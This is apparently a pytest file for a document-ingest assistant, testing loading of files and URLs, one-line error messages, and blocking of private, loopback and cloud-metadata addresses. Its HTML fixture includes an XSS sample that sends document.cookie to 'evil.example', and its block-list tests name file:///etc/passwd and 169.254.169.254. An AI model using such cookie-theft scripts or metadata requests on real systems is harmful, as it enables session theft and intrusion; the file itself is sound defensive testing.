"""Ingest of .md/.txt/.html/.pdf files and URLs written for the tests, and one-line errors for bad input."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from index_helpers import run_cli, seeded_settings

from assistant.corpus import fetch as fetch_module
from assistant.corpus.library import load_corpus, save_added
from assistant.corpus.loaders import load_source
from assistant.errors import InputError
from assistant.facade import Assistant
from assistant.index.build import build_index
from assistant.settings import Settings

HTML = """<!doctype html><html><head><title>Baltic ferry report</title>
<script>alert('xss'); document.cookie = 'stolen';</script><style>body { color: red }</style></head>
<body><nav><a href="/">Home</a> | <a href="/about">About</a></nav>
<script>var tracker = "SCRIPT-JUNK-1234"; fetch('https://evil.example/' + document.cookie);</script>
<article><h1>Baltic ferry report</h1>
<p>The Baltic ferry operators reported that passenger numbers between Tallinn and Helsinki grew by a tenth in 2025.
Harbour authorities in Tallinn attributed the growth to new fast ferries and lower fares on the route.</p>
<p>Freight volumes on the same crossing stayed flat, according to the operators' annual report published in March.
The report also noted that winter ice caused fewer cancellations than in previous years.</p>
</article><footer>Copyright footer text</footer><script>console.log("SCRIPT-JUNK-5678")</script></body></html>
"""
PDF_PAGES = [
    ["The Danube shipping survey counted barges passing Vukovar in 2025.", "Barge traffic rose after the river was dredged."],
    ["On the second page, the survey notes that grain made up most of the cargo.", "Fuel barges were the second largest group."],
]


def make_pdf(path: Path, pages: list[list[str]], *, encrypt: str | None = None) -> Path:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    pdf = canvas.Canvas(str(path), pagesize=A4, encrypt=encrypt)
    pdf.setTitle("Danube shipping survey")
    for lines in pages:
        y = 800
        for line in lines:
            pdf.drawString(72, y, line)
            y -= 16
        pdf.showPage()
    pdf.save()
    return path


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        return

    def do_GET(self) -> None:  # noqa: N802
        port = self.server.server_address[1]
        routes = {
            "/page.html": ("text/html; charset=utf-8", HTML.encode()),
            "/doc.pdf": ("application/pdf", self.server.pdf_bytes),  # type: ignore[attr-defined]
            "/notes.txt": ("text/plain", b"Plain notes about the Vistula floods of 2025 and the dyke repairs near Torun."),
            "/big.txt": ("text/plain", b"word " * 5000),
            "/empty.html": ("text/html", b"<html><head><script>var x = 1;</script></head><body></body></html>"),
        }
        if self.path == "/slow":
            time.sleep(3)
        if self.path == "/redirect-loopback":
            return self._reply(302, "text/plain", b"", location=f"http://127.0.0.1:{port}/page.html")
        if self.path == "/redirect-metadata":
            return self._reply(302, "text/plain", b"", location="http://169.254.169.254/latest/meta-data/")
        if self.path == "/redirect-loop":
            return self._reply(302, "text/plain", b"", location="/redirect-loop")
        if self.path not in routes:
            return self._reply(404, "text/plain", b"not found")
        self._reply(200, *routes[self.path])

    def _reply(self, status: int, content_type: str, data: bytes, location: str | None = None) -> None:
        self.send_response(status)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(data)))
        if location:
            self.send_header("location", location)
        self.end_headers()
        try:
            self.wfile.write(data)
        except (BrokenPipeError, ConnectionResetError):
            pass


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    server.pdf_bytes = make_pdf(tmp_path_factory.mktemp("web") / "doc.pdf", PDF_PAGES).read_bytes()  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    d = tmp_path / "inputs"
    d.mkdir()
    paths = {
        "md": d / "notes.md",
        "txt": d / "plain.txt",
        "html": d / "ferry.html",
        "pdf": make_pdf(d / "survey.pdf", PDF_PAGES),
        "encrypted": make_pdf(d / "secret.pdf", PDF_PAGES, encrypt="s3cret"),
        "corrupt": d / "broken.pdf",
        "binary": d / "blob.txt",
        "latin1": d / "latin1.md",
        "empty": d / "empty.md",
        "blank": d / "blank.txt",
        "big": d / "big.md",
        "docx": d / "report.docx",
        "dir": d / "folder.md",
    }
    paths["md"].write_text(
        "# Carpathian rail notes\n\nThe Carpathian rail link reopened in May 2025 after repairs.\n\n"
        "## Costs\n\nRepairs cost more than planned.\n"
    )
    paths["txt"].write_text("Plain text notes on the Odesa port tonnage, which recovered in the autumn of 2025.\n")
    paths["html"].write_text(HTML)
    paths["corrupt"].write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage garbage\n%%EOF")
    paths["binary"].write_bytes(bytes(range(256)) * 4)
    paths["latin1"].write_bytes("Caf\xe9 notes about Kraków and Łódź".encode("latin-1", errors="replace"))
    paths["empty"].write_text("")
    paths["blank"].write_text("   \n\n\t\n")
    paths["big"].write_text("All work and no play. " * 600)
    paths["docx"].write_bytes(b"PK\x03\x04 not really a docx")
    paths["dir"].mkdir()
    return paths


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


# -- good inputs ------------------------------------------------------------------------------------------


def test_ingest_md_txt_html_pdf_and_url_then_answer(tmp_path: Path, built_settings: Settings, files: dict[str, Path], web: str) -> None:
    settings = seeded_settings(tmp_path, built_settings, allow_private_urls=True)
    local = [str(files[kind]) for kind in ("md", "txt", "html", "pdf")]
    targets = [*local, f"{web}/page.html", f"{web}/doc.pdf", f"{web}/notes.txt"]
    loaded = [load_source(target, settings) for target in targets]
    html = loaded[2].markdown
    assert "Baltic ferry operators" in html and "SCRIPT-JUNK" not in html and "alert(" not in html and "document.cookie" not in html
    assert loaded[2].title == "Baltic ferry report"
    pdf = loaded[3].markdown
    assert "<!-- page 1 -->" in pdf and "<!-- page 2 -->" in pdf and "Vukovar" in pdf and loaded[3].title == "Danube shipping survey"
    assert loaded[4].url == f"{web}/page.html" and "SCRIPT-JUNK" not in loaded[4].markdown
    assert "<!-- page 2 -->" in loaded[5].markdown
    assert loaded[0].title == "Carpathian rail notes"
    for source in loaded:
        save_added(settings, source)

    result = build_index(settings)
    by_doc = {d.title: d.chunks for d in result.manifest.documents}
    assert len(result.manifest.documents) == 1 + len(targets)
    assert all(count > 0 for count in by_doc.values()), by_doc
    documents = {d.title: d for d in load_corpus(settings)}
    survey = documents["Danube shipping survey"]
    assert {p.page for p in survey.paragraphs} == {1, 2}

    assistant = Assistant(settings)
    answer = assistant.ask("What share of the barge cargo was grain on the Danube?")
    assert not answer.declined
    pdf_citations = [c for c in answer.citations if c.chunk.page == 2]
    assert pdf_citations and "grain" in pdf_citations[0].quote
    ferry = assistant.ask("How much did Baltic ferry passenger numbers grow between Tallinn and Helsinki?")
    assert not ferry.declined and any("Tallinn" in c.quote for c in ferry.citations)
    assert all("SCRIPT-JUNK" not in c.chunk.text for c in ferry.citations)


# -- bad inputs: one clear line each --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("missing", "no such file"),
        ("dir", "is a directory"),
        ("binary", "looks like a binary file"),
        ("latin1", "not UTF-8 text"),
        ("corrupt", "not a readable PDF"),
        ("encrypted", "the PDF is encrypted"),
        ("empty", "the document has no text"),
        ("blank", "the document has no text"),
        ("big", "over the 4,000-byte limit"),
        ("docx", "unsupported file type .docx"),
    ],
)
def test_bad_files_give_one_line_errors(fresh_settings: Settings, files: dict[str, Path], name: str, message: str) -> None:
    settings = fresh_settings.model_copy(update={"max_file_bytes": 4000})
    path = files[name] if name in files else files["md"].parent / "nope.md"
    with pytest.raises(InputError) as error:
        load_source(str(path), settings)
    assert message in str(error.value) and "\n" not in str(error.value)
    assert str(path) in str(error.value)


def test_html_with_only_scripts_is_refused(fresh_settings: Settings, tmp_path: Path) -> None:
    page = tmp_path / "scripts.html"
    page.write_text("<html><head><script>alert(1)</script></head><body><script>var a = 'x';</script></body></html>")
    with pytest.raises(InputError, match="no main text found"):
        load_source(str(page), fresh_settings)


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("/slow", "timed out"),
        ("/big.txt", "larger than the 4,000-byte limit"),
        ("/missing", "HTTP 404"),
        ("/redirect-loop", "more than 5 redirects"),
        ("/empty.html", "no main text found"),
    ],
)
def test_bad_urls_give_one_line_errors(fresh_settings: Settings, web: str, path: str, message: str) -> None:
    settings = fresh_settings.model_copy(update={"allow_private_urls": True, "fetch_timeout_s": 1.0, "max_file_bytes": 4000})
    started = time.monotonic()
    with pytest.raises(InputError) as error:
        load_source(web + path, settings)
    assert message in str(error.value) and "\n" not in str(error.value)
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("ftp://example.org/file.txt", "only http and https"),
        ("file:///etc/passwd", "only http and https"),
        ("http://127.0.0.1/page.html", "blocked"),
        ("http://localhost:8000/", "blocked"),
        ("http://[::1]/", "blocked"),
        ("http://10.0.0.7/", "blocked"),
        ("http://169.254.169.254/latest/meta-data/", "blocked"),
        ("http://0.0.0.0/", "blocked"),
        ("http:///no-host", "has no host"),
    ],
)
def test_scheme_and_private_addresses_blocked_by_default(fresh_settings: Settings, url: str, message: str) -> None:
    with pytest.raises(InputError) as error:
        load_source(url, fresh_settings)
    assert message in str(error.value)
    if message == "blocked":
        assert "BRIEF_ALLOW_PRIVATE_URLS" in str(error.value)


def test_unreachable_url(fresh_settings: Settings) -> None:
    settings = fresh_settings.model_copy(update={"allow_private_urls": True, "fetch_timeout_s": 2.0})
    with pytest.raises(InputError, match=r"unreachable \(ConnectError\)"):
        load_source(f"http://127.0.0.1:{_free_port()}/page.html", settings)


@pytest.mark.parametrize("route", ["/redirect-loopback", "/redirect-metadata"])
def test_redirect_to_private_address_is_blocked(fresh_settings: Settings, web: str, route: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first hop stands in for a public site; every later hop goes through the real address check."""
    real_check = fetch_module.resolve_allowed
    first_hop = web + route
    hops: list[str] = []

    def check(url: str, *, allow_private: bool, deadline: float) -> str:
        hops.append(url)
        return real_check(url, allow_private=allow_private or url == first_hop, deadline=deadline)

    monkeypatch.setattr(fetch_module, "resolve_allowed", check)
    with pytest.raises(InputError, match="blocked"):
        load_source(first_hop, fresh_settings)
    assert len(hops) == 2, "the redirect target was checked before any request was sent to it"


def test_ingest_cli_reports_each_bad_input_on_one_line(fresh_settings: Settings, files: dict[str, Path], web: str) -> None:
    bad = [
        str(files["md"].parent / "nope.md"), str(files["dir"]), str(files["binary"]), str(files["latin1"]), str(files["corrupt"]),
        str(files["encrypted"]), str(files["empty"]), str(files["big"]), f"{web}/slow", f"http://127.0.0.1:{_free_port()}/x",
        "ftp://example.org/file.txt",
    ]
    done = run_cli(fresh_settings, "ingest", *bad, BRIEF_MAX_FILE_BYTES="4000", BRIEF_FETCH_TIMEOUT_S="1", BRIEF_ALLOW_PRIVATE_URLS="true")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr and not done.stdout
    lines = done.stderr.strip().splitlines()
    assert len(lines) == len(bad), done.stderr
    for target, line in zip(bad, lines):
        assert line.startswith(f"error: {target}"), line
    assert not (fresh_settings.index_dir / "CURRENT").exists(), "nothing usable: no index is built"


def test_ingest_cli_blocks_loopback_by_default_and_keeps_the_good_ones(
    tmp_path: Path, built_settings: Settings, files: dict[str, Path], web: str
) -> None:
    settings = seeded_settings(tmp_path, built_settings)
    done = run_cli(settings, "ingest", str(files["md"]), f"{web}/page.html")
    assert done.returncode == 1, "one target failed"
    lines = done.stderr.strip().splitlines()
    assert lines[0].startswith(f"error: {web}/page.html: blocked") and "BRIEF_ALLOW_PRIVATE_URLS" in lines[0]
    assert lines[1].startswith(f"added {files['md']} -> {settings.corpus_dir / 'documents'}")
    assert "index built" in lines[-1] and "2 documents" in lines[-1]
